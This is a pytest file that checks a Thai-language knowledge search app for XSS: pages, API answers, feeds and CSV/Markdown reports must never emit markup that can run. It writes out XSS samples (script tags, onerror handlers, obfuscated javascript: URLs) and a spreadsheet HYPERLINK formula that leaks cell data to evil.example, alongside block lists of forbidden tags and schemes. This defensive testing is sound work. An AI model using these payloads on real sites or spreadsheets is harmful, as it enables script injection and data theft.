"""Hostile content and queries never reach a reader as markup.

Every payload of tests/xss_payloads.txt is planted in one document: in its
body (Markdown and raw HTML), title, tags, summary, author, holder and file
name.  Then every page that can show it is fetched (the article, searches
for it whose snippets and facets show it, a search echoing it back as the
query and as a tag filter, listings, the JSON API) and the HTML is parsed:
no script, no event handler, no javascript:/data: URL, no element that can
load or run anything, no inline style (the Content-Security-Policy would
block it anyway, so it must not be needed).

Feeds: every URL in FEED_URLS is parsed as XML and its HTML parts checked
the same way; a URL the app does not serve (404) is skipped.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
import yaml

from indexer import build_index
from kmsearch import create_app

from .corpus import write_corpus

PAYLOADS = [
    line
    for line in (Path(__file__).parent / "xss_payloads.txt").read_text(encoding="utf-8").splitlines()
    if line and not line.startswith("# ")
]
FEED_URLS = ["/feed.atom", "/division/finance/feed.atom"]  # a URL not served yet is skipped

# Elements that load or run something, or parse differently in places
# (mXSS): never on any page.
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "style",
    "base",
    "video",
    "audio",
    "source",
    "track",
    "marquee",
    "noscript",
    "template",
    "isindex",
    "keygen",
    "portal",
    "xmp",
    "plaintext",
    "listing",
    "param",
}
# The app's own pages use some of these (the search form, <details> for
# filters, share-card <meta>); content (an article body, a snippet) never.
CONTENT_FORBIDDEN_TAGS = {
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "label",
    "details",
    "dialog",
    "link",
    "meta",
    "canvas",
    "picture",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "cite",
    "background",
    "srcset",
    "xlink:href",
    "codebase",
    "longdesc",
    "manifest",
    "ping",
    "lowsrc",
    "dynsrc",
}
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "background", "xlink:href", "srcset", "http-equiv"}
# <link> relations that make the browser load and use something.
LOADING_RELS = {"stylesheet", "preload", "modulepreload", "prefetch", "icon", "manifest", "import", "serviceworker"}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.I)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f\u200b-\u200f\u2028-\u202e\ufeff]")


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _own(url: str) -> bool:
    """A URL of this site: a path, not another origin."""
    return url.startswith("/") and not url.startswith("//")


def unsafe_markup(markup: str, page: bool = True) -> list[str]:
    """Everything in ``markup`` that could run script or load from elsewhere.

    ``page``: a whole page of the app, whose own form, stylesheet link and
    meta tags are expected; a fragment (an article's HTML from the API, a
    snippet) may have none of them.
    """
    found = []
    if re.search(r"<\s*script(?![^>]*\ssrc=\"/static/)", markup, re.I):
        found.append("a <script> element")
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    for tag, attrs in parser.tags:
        a = {k.lower(): (v or "") for k, v in attrs}
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in a.items())}>"
        if tag in FORBIDDEN_TAGS and not (tag == "script" and a.get("src", "").startswith("/static/")):
            found.append(f"forbidden element {where}")
        if tag in CONTENT_FORBIDDEN_TAGS and not page:
            found.append(f"{tag} element in content {where}")
        if tag == "link" and LOADING_RELS & set(a.get("rel", "").lower().split()) and not _own(a.get("href", "")):
            found.append(f"link loading from elsewhere {where}")
        if tag == "form" and not a.get("action", "").startswith("/"):
            found.append(f"form posting elsewhere {where}")
        if tag == "a" and a.get("target") and "noopener" not in a.get("rel", ""):
            found.append(f"target without noopener {where}")
        for name, value in a.items():
            if name.startswith("on"):
                found.append(f"event handler {name} in {where}")
            if name in FORBIDDEN_ATTRIBUTES:
                found.append(f"attribute {name} in {where}")
            if name in URL_ATTRIBUTES:
                for url in value.split(",") if name == "srcset" else [value]:
                    if BAD_SCHEME.match(_INVISIBLE.sub("", html.unescape(url)).strip()):
                        found.append(f"{name} with a script or data URL in {where}")
    return found


def assert_safe_page(resp, what: str) -> None:
    body = resp.get_data(as_text=True)
    if resp.mimetype == "application/json":
        data = json.loads(body)
        for fragment in _html_fragments(data):
            problems = unsafe_markup(fragment, page=False)
            assert not problems, f"{what}: {problems[:3]}"
    else:
        assert resp.mimetype == "text/html", what
        problems = unsafe_markup(body)
        assert not problems, f"{what}: {problems[:3]}"
        assert "7777777" not in body, f"{what}: a template expression in content was evaluated"
    csp = resp.headers.get("Content-Security-Policy", "")
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp, what


def _html_fragments(data) -> list[str]:
    """String values of a JSON answer that a client may show as HTML."""
    out = []
    if isinstance(data, dict):
        for k, v in data.items():
            if isinstance(v, str) and k in ("html", "snippet", "title_html"):
                out.append(v)
            else:
                out += _html_fragments(v)
    elif isinstance(data, list):
        for v in data:
            out += _html_fragments(v)
    return out


def _file_name(i: int, payload: str) -> str:
    name = f"x{i:03d}-" + payload.replace("/", "∕").replace("\0", "")
    raw = name.encode("utf-8")[:200]
    return raw.decode("utf-8", "ignore") + ".md"


def _cell(payload: str) -> str:
    return payload.replace("|", "\\|")


def hostile_docs() -> dict[str, str]:
    docs = {}
    for i, p in enumerate(PAYLOADS):
        meta = {
            "id": f"xss-{i:03d}",
            "title": f"คู่มือ {p}",
            "division": "กองคลัง",
            "type": "manual",
            "knowledge": "tacit",
            "holder": p,
            "author": p,
            "tags": [p, "ภาษีที่ดิน"],
            "summary": p,
            "date": "2024-01-15",
            "aliases": [f"xss-old-{i:03d}"],
        }
        front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=10**6)
        body = (
            f"ภาษีที่ดิน {p}\n\n{p}\n\n## {p}\n\n- {p}\n\n> {p}\n\n"
            f"| หัวข้อ | ค่า |\n|:--|--:|\n| {_cell(p)} | ภาษีที่ดิน |\n\n[ลิงก์ {i}]({p.split()[0] if p.split() else 'x'})\n"
        )
        docs[f"finance/{_file_name(i, p)}"] = f"---\n{front}---\n{body}"
    return docs


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    content = write_corpus(root / "content", hostile_docs())
    report = build_index(content, root / "index")
    # Links that lead nowhere are reported but do not stop a document.
    serious = [str(p) for p in report.problems if p.field not in ("link", "attachment")]
    assert serious == []
    assert report.documents == len(PAYLOADS)
    app = create_app({"CONTENT_DIR": str(content), "INDEX_DIR": str(root / "index")})
    app.testing = True
    return app.test_client()


def test_the_corpus_has_at_least_fifty_payloads():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=lambda i: f"p{i:03d}")
def test_payload_never_reaches_a_reader(hostile, i):
    p = PAYLOADS[i]
    doc_id = f"xss-{i:03d}"
    article = hostile.get(f"/a/{doc_id}")
    assert article.status_code == 200
    assert_safe_page(article, f"article {doc_id}")
    checks = [
        (f"/api/articles/{doc_id}", {}),
        # the query echoed back, snippets and did-you-mean; the tag as a
        # removable chip and in the facets
        ("/search", {"q": p, "tag": p}),
        ("/search", {"q": p}),
        ("/api/search", {"q": p, "tag": p}),
        ("/api/suggest", {"q": p}),
    ]
    for url, args in checks:
        resp = hostile.get(url, query_string=args)
        assert resp.status_code in (200, 400), (url, args, resp.status_code)
        assert_safe_page(resp, f"{url} {args}")
    moved = hostile.get(f"/a/xss-old-{i:03d}")
    assert moved.status_code == 301 and moved.headers["Location"].endswith(f"/a/{doc_id}")


def test_listings_and_result_pages_with_every_hostile_document(hostile):
    pages = ["/", "/type/manual", "/knowledge/tacit"]
    per_page = 10
    for n in range(1, len(PAYLOADS) // per_page + 2):
        pages += [
            f"/division/finance?page={n}",
            f"/search?q=คู่มือ&page={n}",
            f"/search?q=&sort=date&page={n}",
            f"/search?q=ภาษีที่ดิน+script+alert+onerror&page={n}",
        ]
    for url in pages:
        resp = hostile.get(url)
        assert resp.status_code == 200, url
        assert_safe_page(resp, url)


def test_hostile_text_is_shown_as_text(hostile):
    """Escaped, not dropped: a reader sees what the author wrote."""
    body = hostile.get("/a/xss-000").get_data(as_text=True)
    assert "คู่มือ &lt;script&gt;alert(1)&lt;/script&gt;" in body  # the title
    body = hostile.get("/search", query_string={"q": '"><script>alert(1)</script>'}).get_data(as_text=True)
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in body


@pytest.mark.parametrize("url", FEED_URLS)
def test_feeds_carry_no_markup_that_runs(hostile, url):
    resp = hostile.get(url)
    if resp.status_code == 404:
        pytest.skip(f"{url}: no feed yet")
    assert resp.status_code == 200
    root = ET.fromstring(resp.get_data())
    for el in root.iter():
        text = el.text or ""
        # Atom text constructs are text unless type says html; RSS
        # descriptions are HTML by custom.
        if el.get("type") in ("html", "xhtml") or el.tag == "description":
            problems = unsafe_markup(text, page=False)
            assert not problems, f"{url} <{el.tag}>: {problems[:3]}"
        for name, value in el.attrib.items():
            if name == "href":
                assert not BAD_SCHEME.match(value.strip()), f"{url}: {value}"


def report_app(hostile, tmp_path):
    """The hostile site with a committee token, so reports hold the queries."""
    settings = {k: hostile.application.config[k] for k in ("CONTENT_DIR", "INDEX_DIR")}
    app = create_app({**settings, "USAGE_DB": str(tmp_path / "usage.sqlite3"), "KM_TOKEN": "t0ken"})
    app.testing = True
    client = app.test_client()
    for p in PAYLOADS:
        # The report lists the 20 most frequent queries: these among them.
        for _ in range(3 if p.lstrip()[:1] in "=+-@\t＝#`1" else 1):
            client.get("/search", query_string={"q": p})
    return client


@pytest.mark.slow
def test_no_cell_of_the_csv_report_is_a_formula(hostile, tmp_path):
    from kmsearch.km.report_csv import FORMULA_START

    client = report_app(hostile, tmp_path)
    resp = client.get("/km/report.csv", headers={"Authorization": "Bearer t0ken"})
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.lstrip(" \n").startswith(FORMULA_START)]
    # Shown as typed, an apostrophe first: a title and a query.
    assert '\'=hyperlink("http://evil.example/?leak="&a1,"x")' in cells  # queries are kept lower case
    assert any(c.startswith("คู่มือ =HYPERLINK(") for c in cells)


@pytest.mark.slow
def test_the_markdown_report_shows_hostile_text_as_text(hostile, tmp_path):
    client = report_app(hostile, tmp_path)
    md = client.get("/km/report.md", headers={"Authorization": "Bearer t0ken"}).get_data(as_text=True)
    rendered = markdown.markdown(md, extensions=["tables"])
    assert not unsafe_markup(rendered, page=False)
    parser = _Collect()
    parser.feed(rendered)
    own = {"h1", "h2", "h3", "p", "br", "ul", "li"}
    assert {tag for tag, _ in parser.tags} <= own
    for table in re.findall(r"(?:^\|.*\n)+", md, re.M):
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
        assert len(widths) == 1, f"a pipe in a title or query adds a column: {table[:300]}"
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    for shown in (
        "คู่มือ <script>alert(1)</script>",
        "`code` **bold** [link](https://evil.example/) <b>bold</b>",
        "#heading | cell | ![t](https://evil.example/t.png)",
        "1. list item > quote \\| escaped pipe",
    ):
        assert shown in text, shown


def test_the_checker_catches_what_it_must():
    """The checks above would see a payload that got through."""
    for bad in [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="jav&#x09;ascript:x">x</a>',
        '<a href=" JAVASCRIPT:x">x</a>',
        '<img src="data:image/svg+xml,x">',
        "<svg></svg>",
        '<p style="color:red">x</p>',
        '<iframe srcdoc="x"></iframe>',
        '<a href="x" target="_blank">x</a>',
        '<meta http-equiv="refresh" content="0">',
        '<link rel="stylesheet" href="https://evil.example/">',
        '<link rel="icon preload" href="//evil.example/x">',
        '<form action="https://evil.example/"><input></form>',
        '<img srcset="x 1x, javascript:y 2x">',
    ]:
        assert unsafe_markup(bad, page=True), bad
    assert unsafe_markup('<form action="/search"><input name="q"></form>', page=False)
    assert unsafe_markup('<meta name="description" content="x">', page=False)
    assert not unsafe_markup(
        '<meta name="description" content="&lt;script&gt;"><link rel="canonical" href="http://x/">'
        '<link rel="stylesheet" href="/static/style.css">'
    )
    assert not unsafe_markup(
        '<p>&lt;script&gt;alert(1)&lt;/script&gt; <a href="/a/x">x</a> '
        '<a href="https://example.org/" rel="noopener noreferrer">y</a></p>'
    )
